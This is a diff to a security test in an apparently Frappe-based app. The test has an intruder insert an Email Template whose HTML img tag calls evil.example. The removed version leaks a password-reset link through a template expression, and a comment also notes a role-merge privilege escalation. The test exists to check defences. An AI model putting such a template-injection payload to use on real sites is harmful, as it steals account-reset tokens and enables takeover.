@@ -392,7 +392,8 @@ class TestAccessGrantsOverHttp(MeldcodeTestCase):
 		# Round 29: the reset mail's template sent the key to the System Manager's own server, and
 		# a role of their own merged into Meldcode Board gave them the board's role without a grant.
 		template = {"doctype": "Email Template", "name": "Template van de indringer", "subject": "Herstel"}
-		template["response"] = '<img src="https://evil.example/p.gif?k={{ link | urlencode }}">'
+		# (A template in it is the bench's Administrator's since round 72: this one names no link.)
+		template["response"] = '<img src="https://evil.example/p.gif">'
 		self.assertEqual(self.call(INTRUDER, "frappe.client.insert", "post", doc=template)[0], 200)
 
 		def clean_up():  # also after a failure: the site's reset mail must never keep this template
